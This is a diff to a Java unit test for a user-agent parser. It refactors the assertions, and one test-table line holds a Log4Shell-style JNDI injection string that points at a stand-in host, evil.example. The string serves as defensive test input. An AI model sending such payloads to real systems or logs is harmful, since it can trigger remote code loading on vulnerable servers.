@@ -70,17 +70,17 @@ class UserAgentTest {
             ''                    | <!channel> $1 ${jndi:ldap://evil.example/a}
             """)
     void isPutIntoWords(String words, String userAgent) {
-        assertThat(UserAgent.parse(userAgent, false)).isEqualTo(new UserAgent(userAgent, words.replace("''", "")));
+        assertThat(new UserAgent(userAgent, false).words()).isEqualTo(words.replace("''", ""));
     }
 
     @Test
     void mayBeAbsent() {
-        assertThat(UserAgent.parse("", false)).isEqualTo(new UserAgent("", ""));
+        assertThat(new UserAgent("", false).words()).isEmpty();
     }
 
     @Test
     void isTheConsoleWhereTheRecordSaysSo() {
-        assertThat(UserAgent.parse("AWS Internal", true).words()).isEqualTo("AWS console");
+        assertThat(new UserAgent("AWS Internal", true).words()).isEqualTo("AWS console");
     }
 
     @Test
